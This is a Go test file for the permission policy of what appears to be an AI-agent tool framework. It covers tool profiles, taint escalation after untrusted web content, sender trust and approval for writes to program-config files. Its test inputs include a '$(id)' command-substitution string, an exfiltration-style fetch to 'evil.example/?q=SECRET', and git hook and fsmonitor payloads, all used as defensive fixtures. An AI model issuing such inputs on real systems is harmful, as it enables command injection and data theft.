package policy

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/talonclaw/talon/internal/config"
)

func rules(mut func(*config.Config)) *Rules {
	c := config.Default()
	if mut != nil {
		mut(c)
	}
	return &Rules{
		Config: func() *config.Config { return c },
		Exec: func(_ context.Context, _ Actor, args json.RawMessage) Decision {
			var a struct{ Command string }
			json.Unmarshal(args, &a)
			switch a.Command {
			case "ls":
				return Decision{Action: Allow, Reason: "allowlisted /usr/bin/ls"}
			case "wc -l":
				return Decision{Action: Allow, Reason: SafeBinReason}
			case "$(id)":
				return Decision{Action: Deny, Reason: "command substitution is not allowed"}
			}
			return Decision{Action: Ask, Reason: "not on the allowlist"}
		},
		MessageTarget: func(args json.RawMessage) bool { return !strings.Contains(string(args), "target") },
	}
}

var owner = Actor{AgentID: "main", SessionKey: "agent:main:main", SenderID: "owner", Trust: TrustOwner}

func TestProfilesAndLists(t *testing.T) {
	for _, tc := range []struct {
		name  string
		mut   func(*config.Config)
		tool  string
		allow bool
	}{
		{"coding has fs", nil, "write", true},
		{"coding has web", nil, "web_fetch", true},
		{"coding lacks message", nil, "message", false},
		{"coding lacks cron", nil, "cron", false},
		{"allow adds a tool", func(c *config.Config) { c.Tools.Allow = []string{"message"} }, "message", true},
		{"allow adds a group", func(c *config.Config) { c.Tools.Allow = []string{"group:automation"} }, "cron", true},
		{"deny removes a group", func(c *config.Config) { c.Tools.Deny = []string{"group:runtime"} }, "exec", false},
		{"deny wins over allow", func(c *config.Config) { c.Tools.Allow = []string{"exec"}; c.Tools.Deny = []string{"exec"} }, "exec", false},
		{"deny glob", func(c *config.Config) { c.Tools.Deny = []string{"web_*"} }, "web_search", false},
		{"minimal has nothing", func(c *config.Config) { c.Tools.Profile = "minimal" }, "read", false},
		{"full has everything", func(c *config.Config) { c.Tools.Profile = "full" }, "cron", true},
		{"messaging lacks exec", func(c *config.Config) { c.Tools.Profile = "messaging" }, "exec", false},
		{"unknown tool fails closed", func(c *config.Config) { c.Tools.Profile = "full" }, "rm_rf", false},
	} {
		d := rules(tc.mut).Decide(context.Background(), owner, SessionState{}, tc.tool, json.RawMessage(`{"command":"ls","action":"list"}`))
		if (d.Action == Allow) != tc.allow || d.Reason == "" {
			t.Errorf("%s: %s → %+v", tc.name, tc.tool, d)
		}
	}
}

// TestInvariant8_TaintEscalates: once untrusted content is in a session,
// anything that changes the host or sends elsewhere needs approval; with
// private data too, every egress does. Whatever the model says.
func TestInvariant8_TaintEscalates(t *testing.T) {
	r := rules(func(c *config.Config) { c.Tools.Profile = "full" })
	clean := SessionState{}
	tainted := SessionState{Tainted: true, TaintSources: []string{"web_fetch https://evil.example/page"}, VisitedHosts: []string{"evil.example"}}
	trifecta := tainted
	trifecta.HoldsPrivate = true
	for _, tc := range []struct {
		name  string
		state SessionState
		tool  string
		args  string
		want  Action
	}{
		{"clean exec allowlisted", clean, "exec", `{"command":"ls"}`, Allow},
		{"tainted exec allowlisted", tainted, "exec", `{"command":"ls"}`, Ask},
		{"tainted exec safe bin", tainted, "exec", `{"command":"wc -l"}`, Allow},
		{"tainted exec denied stays denied", tainted, "exec", `{"command":"$(id)"}`, Deny},
		{"tainted write", tainted, "write", `{"path":"a","content":"x"}`, Ask},
		{"tainted edit", tainted, "edit", `{}`, Ask},
		{"tainted cron add", tainted, "cron", `{"action":"add"}`, Ask},
		{"tainted read", tainted, "read", `{"path":"a"}`, Allow},
		{"tainted process poll", tainted, "process", `{"action":"poll","sessionId":"p1"}`, Allow},
		{"tainted process kill", tainted, "process", `{"action":"kill","sessionId":"p1"}`, Ask},
		{"tainted message other target", tainted, "message", `{"action":"send","target":"x","text":"hi"}`, Ask},
		{"tainted message current conversation", tainted, "message", `{"action":"send","text":"hi"}`, Allow},
		{"tainted sessions_send", tainted, "sessions_send", `{}`, Ask},
		{"tainted fetch new host", tainted, "web_fetch", `{"url":"https://other.example/"}`, Ask},
		{"tainted fetch visited host with data", tainted, "web_fetch", `{"url":"https://evil.example/?q=SECRET"}`, Ask},
		{"tainted fetch visited host bare", tainted, "web_fetch", `{"url":"https://evil.example/"}`, Allow},
		{"trifecta fetch visited host bare", trifecta, "web_fetch", `{"url":"https://evil.example/"}`, Ask},
		{"trifecta search", trifecta, "web_search", `{"query":"x"}`, Ask},
		{"tainted search", tainted, "web_search", `{"query":"x"}`, Allow},
		{"clean fetch", clean, "web_fetch", `{"url":"https://x.example/?q=1"}`, Allow},
	} {
		d := r.Decide(context.Background(), owner, tc.state, tc.tool, json.RawMessage(tc.args))
		if d.Action != tc.want {
			t.Errorf("%s: got %+v, want %s", tc.name, d, tc.want)
		}
		if d.Action == Ask && tc.state.Tainted && !strings.Contains(d.Reason, "untrusted content from") {
			t.Errorf("%s: approval reason does not name the untrusted source: %q", tc.name, d.Reason)
		}
	}
}

func TestSenderTrust(t *testing.T) {
	r := rules(func(c *config.Config) { c.Tools.Profile = "full" })
	stranger := Actor{AgentID: "main", SessionKey: "agent:main:telegram:direct:9", SenderID: "telegram:9", Trust: TrustUntrusted}
	// Reading the owner's files or transcripts for a stranger discloses
	// them in the reply: that needs the owner's approval too.
	for tool, want := range map[string]Action{"read": Ask, "write": Ask, "exec": Ask, "web_fetch": Ask, "cron": Deny, "sessions_list": Ask, "sessions_history": Ask} {
		args := `{"command":"ls","action":"add","url":"https://x.example/"}`
		if d := r.Decide(context.Background(), stranger, SessionState{}, tool, json.RawMessage(args)); d.Action != want {
			t.Errorf("untrusted sender %s: %+v, want %s", tool, d, want)
		}
	}
	friend := stranger
	friend.Trust = TrustTrusted
	if d := r.Decide(context.Background(), friend, SessionState{}, "read", json.RawMessage(`{"path":"MEMORY.md"}`)); d.Action != Ask || !strings.Contains(d.Reason, "owner's data") {
		t.Errorf("trusted sender read: %+v", d)
	}
	if d := r.Decide(context.Background(), owner, SessionState{}, "read", json.RawMessage(`{"path":"MEMORY.md"}`)); d.Action != Allow {
		t.Errorf("owner read: %+v", d)
	}
	if d := r.Decide(context.Background(), owner, SessionState{}, "cron", json.RawMessage(`{"action":"add"}`)); d.Action != Allow {
		t.Errorf("owner cron add: %+v", d)
	}
}

func TestExecWithoutAnalyzerDenied(t *testing.T) {
	r := rules(nil)
	r.Exec = nil
	if d := r.Decide(context.Background(), owner, SessionState{}, "exec", json.RawMessage(`{"command":"ls"}`)); d.Action != Deny {
		t.Fatalf("%+v", d)
	}
}

func BenchmarkDecide(b *testing.B) {
	r := rules(nil)
	st := SessionState{Tainted: true, TaintSources: []string{"web_fetch x"}, VisitedHosts: []string{"a.example"}}
	args := json.RawMessage(`{"url":"https://a.example/page"}`)
	b.ReportAllocs()
	for b.Loop() {
		r.Decide(context.Background(), owner, st, "web_fetch", args)
	}
}

func TestPerAgentOverridesOnlyNarrow(t *testing.T) {
	r := rules(func(c *config.Config) {
		c.Agents.List = []config.AgentOverride{
			{ID: "research", Tools: config.AgentTools{Allow: []string{"group:web", "read", "cron"}}},
			{ID: "main", Tools: config.AgentTools{Deny: []string{"exec"}}},
		}
	})
	research := Actor{AgentID: "research", Trust: TrustOwner}
	for tool, want := range map[string]Action{"web_fetch": Allow, "read": Allow, "write": Deny, "exec": Deny,
		"cron": Deny /* allowed by the override, but not enabled by the coding profile: overrides cannot widen */} {
		if d := r.Decide(context.Background(), research, SessionState{}, tool, json.RawMessage(`{"command":"ls","url":"https://a.example/","action":"list"}`)); d.Action != want {
			t.Errorf("research %s: %+v, want %s", tool, d, want)
		}
	}
	if d := r.Decide(context.Background(), owner, SessionState{}, "exec", json.RawMessage(`{"command":"ls"}`)); d.Action != Deny || !strings.Contains(d.Reason, "agents.list") {
		t.Errorf("main exec: %+v", d)
	}
	if d := r.Decide(context.Background(), owner, SessionState{}, "write", json.RawMessage(`{}`)); d.Action != Allow {
		t.Errorf("main write: %+v", d)
	}
}

// TestInvariant5_ProgramConfigWritesNeedApproval: writing a file that
// configures programs (git hooks and config, attributes, rc files) is a
// host-changing action that asks even the owner in an untainted session;
// ordinary files do not.
func TestInvariant5_ProgramConfigWritesNeedApproval(t *testing.T) {
	r := rules(nil)
	for _, tc := range []struct {
		tool string
		args string
		ask  bool
	}{
		{"write", `{"path":".git/hooks/pre-commit","content":"#!/bin/sh\ntouch /tmp/x"}`, true},
		{"write", `{"path":".git/config","content":"[core]\nfsmonitor = touch x"}`, true},
		{"write", `{"path":"sub/.GIT/config","content":"x"}`, true},
		{"write", `{"path":"./.gitattributes","content":"* filter=x"}`, true},
		{"write", `{"path":"/work/ws/.npmrc","content":"x"}`, true},
		{"edit", `{"path":"proj/.envrc","oldText":"a","newText":"b"}`, true},
		{"edit", `{"path":".vscode/tasks.json","oldText":"a","newText":"b"}`, true},
		{"apply_patch", `{"patch":"*** Begin Patch\n*** Add File: src/a.go\n+x\n*** Update File: .git/config\n@@\n-a\n+b\n*** End Patch"}`, true},
		{"apply_patch", `{"patch":"*** Begin Patch\n*** Update File: src/a.go\n*** Move to: .gitmodules\n*** End Patch"}`, true},
		{"write", `not json`, true},
		{"write", `{"path":"src/main.go","content":"package main"}`, false},
		{"write", `{"path":"docs/git-notes.md","content":"x"}`, false},
		{"apply_patch", `{"patch":"*** Begin Patch\n*** Add File: src/a.go\n+x\n*** End Patch"}`, false},
	} {
		d := r.Decide(context.Background(), owner, SessionState{}, tc.tool, json.RawMessage(tc.args))
		if got := d.Action == Ask; got != tc.ask {
			t.Errorf("%s %s: %+v, want ask=%v", tc.tool, tc.args, d, tc.ask)
		}
		if tc.ask && !strings.Contains(d.Reason, "configures programs") && tc.args != "not json" {
			t.Errorf("%s %s: reason %q does not say why", tc.tool, tc.args, d.Reason)
		}
	}
}
